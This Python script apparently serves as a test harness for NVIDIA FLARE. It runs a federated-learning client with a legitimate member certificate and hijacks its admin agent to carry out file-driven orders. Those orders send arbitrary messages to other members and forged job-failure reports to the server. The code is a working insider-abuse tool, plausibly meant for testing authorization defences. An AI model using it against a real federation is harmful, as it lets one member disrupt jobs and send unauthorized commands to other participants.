"""A member that abuses its place: FLARE's client with a member's certificate, which sends others what it likes.

Run as ``python rogue.py ORDERS.json -m WORK -s fed_client.json --set ...``; answers are written beside the orders.
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path
from typing import Any

from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.cellnet.fqcn import FQCN
from nvflare.fuel.f3.mpm import MainProcessMonitor
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, CellChannelTopic, JobFailureMsgKey, new_cell_message
from nvflare.private.fed.app.client import client_train


def carried_out(cell: Any, order: dict[str, str]) -> str:
    """Send one message and return what came back."""
    if order["do"] == "report failure":
        payload = {JobFailureMsgKey.JOB_ID: order["job"], JobFailureMsgKey.CODE: 102, JobFailureMsgKey.REASON: "rogue"}
        target, channel, topic = FQCN.ROOT_SERVER, CellChannel.SERVER_MAIN, CellChannelTopic.REPORT_JOB_FAILURE
    else:
        payload = Message(topic=order["topic"], body=order["body"])
        target, channel, topic = order["target"], CellChannel.CLIENT_MAIN, order["topic"]
    reply = cell.send_request(
        channel=channel, target=target, topic=topic, request=new_cell_message({}, payload), timeout=10.0, optional=True
    )
    code = reply.get_header(MessageHeaderKey.RETURN_CODE)
    return f"{code}: {getattr(reply.payload, 'body', reply.payload)}"


def main() -> None:
    orders = Path(sys.argv.pop(1))
    create = client_train.create_admin_agent

    def abuse(processors: Any, client: Any, engine: Any) -> Any:
        agent = create(processors, client, engine)
        done = orders.with_suffix(".done")
        while True:
            if orders.exists():
                wanted = json.loads(orders.read_text())
                orders.unlink()
                draft = done.with_suffix(".new")
                draft.write_text(json.dumps([carried_out(client.cell, order) for order in wanted]))
                draft.replace(done)
            time.sleep(0.1)
        return agent

    client_train.create_admin_agent = abuse
    arguments = client_train.parse_arguments()
    sys.exit(MainProcessMonitor.run(main_func=client_train.main, run_dir=arguments.workspace, args=arguments))


if __name__ == "__main__":
    main()
